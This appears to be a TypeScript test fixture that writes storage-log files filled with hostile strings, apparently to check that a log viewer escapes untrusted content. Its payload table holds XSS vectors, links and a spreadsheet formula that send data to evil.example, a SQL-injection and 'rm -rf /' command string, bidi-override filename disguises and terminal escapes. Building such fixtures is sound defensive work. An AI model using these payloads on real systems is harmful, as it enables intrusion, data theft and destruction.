import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { CANARY, CANARY_TEXTS } from "../../support/canary";
import { hostileQuery, hostileRow } from "../../support/hostile-rows";
import { exportedRow, linesOf, type RowChanges, TOKEN_QUERY } from "../../support/logged-rows";

/** Sets a mark on the window wherever it runs, and asks for attention. */
const RUN = "window.ran=1;alert(1)";

/** Texts that would be markup, script, a link, a command or a disguise where they are not only text. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  "script element": `<script>${RUN}</script>`,
  "end of a script": `</script><script>${RUN}</script>`,
  "end of a title and a comment": `</title></style></textarea>--><script>${RUN}</script>`,
  "event handler": `"><img src=x onerror=${RUN}>`,
  "handler in quotes": `' autofocus onfocus='${RUN}' x='`,
  "svg onload": `<svg/onload=${RUN}>`,
  "script link": `javascript:${RUN}`,
  "data link": `data:text/html,<script>${RUN}</script>`,
  "framed page": `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  "base element": `<base href="https://evil.example/">`,
  "link elsewhere": "https://evil.example/steal?x=1",
  template: "{{constructor.constructor('window.ran=1')()}} <%= 1 %>",
  "flight payload": `1:["$","script",null,{"dangerouslySetInnerHTML":{"__html":"${RUN}"}}]`,
  formula: `=HYPERLINK("https://evil.example/?"&A1,"open")`,
  command: "'; DROP TABLE failures; -- $(rm -rf /) `id`",
  "bidi override": "invoice\u202egpj.exe\u2066\u2069",
  "zero width": "pay\u200b\u200dpal\ufeff\u2060",
  "terminal escapes": "\u001b[31mred\u001b]0;title\u0007\r\nforged: line",
  "line separators": "a\u2028b\u2029c\u0085d",
  "lone surrogate": "a\ud800b",
  "private use and tags": "\ue000\u{e0041}\u{e0042}",
  "8 kB": `${"x".repeat(4000)}<b>${"y".repeat(4000)}`,
};

export const HOSTILE_ACCOUNT = "sthostile";
export const CANARY_ACCOUNT = "stcanary";
export const LATER_ACCOUNT = "stlater";

function hostileRows() {
  return Object.values(HOSTILE_TEXTS).flatMap((text, at) => [
    hostileRow(3 * at, text, HOSTILE_ACCOUNT),
    exportedRow(3 * at + 1, { account: HOSTILE_ACCOUNT, query: hostileQuery(text) }),
    exportedRow(3 * at + 2, { account: HOSTILE_ACCOUNT, uri: `${text}?${TOKEN_QUERY}` }),
  ]);
}

/** Requests that went well, whose tokens end on the same day: what other pages list. */
const workingRows = () =>
  Object.values(HOSTILE_TEXTS).map((text, at) => hostileRow(2_000 + at, text, HOSTILE_ACCOUNT, 200));

const CANARY_PLACES: readonly ((text: string) => RowChanges)[] = [
  (text) => ({ properties: { userAgentHeader: text } }),
  (text) => ({ properties: { referrerHeader: text } }),
  (text) => ({ properties: { objectKey: `/${CANARY_ACCOUNT}/box/${text}`, clientRequestId: text } }),
  (text) => ({ statusText: text, identity: { type: text } }),
  (text) => ({
    query: `${TOKEN_QUERY.replace("sig=XXXXX", `sig=${encodeURIComponent(CANARY)}`)}&note=${text}`,
  }),
];

/** Each way to write the canary in one of the places, in turn. */
function canaryRows() {
  return Object.values(CANARY_TEXTS).map((text, at) =>
    exportedRow(at, { account: CANARY_ACCOUNT, ...CANARY_PLACES[at % CANARY_PLACES.length]?.(text) }),
  );
}

const BROKEN = (text: string) =>
  `{"time":"${text}","uri":"https://a.blob.core.windows.net/b?${TOKEN_QUERY}","x":`;

/** Writes logs in which everything that a client can choose is hostile, and names of files too. */
export function writeHostileLogs(logs: string): void {
  mkdirSync(logs, { recursive: true });
  writeFileSync(
    join(logs, `"><img src=x onerror=${RUN}>.json`),
    linesOf([...hostileRows(), ...workingRows()]),
  );
  writeFileSync(join(logs, "invoice\u202enosj.json"), linesOf(canaryRows()));
  const broken = [...Object.values(HOSTILE_TEXTS), ...Object.values(CANARY_TEXTS)].map(BROKEN);
  writeFileSync(join(logs, "broken.json"), `${linesOf(canaryRows().slice(0, 2))}${broken.join("\n")}\n`);
}

/** A file that comes while the server runs. */
export function writeLaterLog(logs: string): void {
  writeFileSync(join(logs, "later.json"), linesOf([exportedRow(900, { account: LATER_ACCOUNT })]));
}
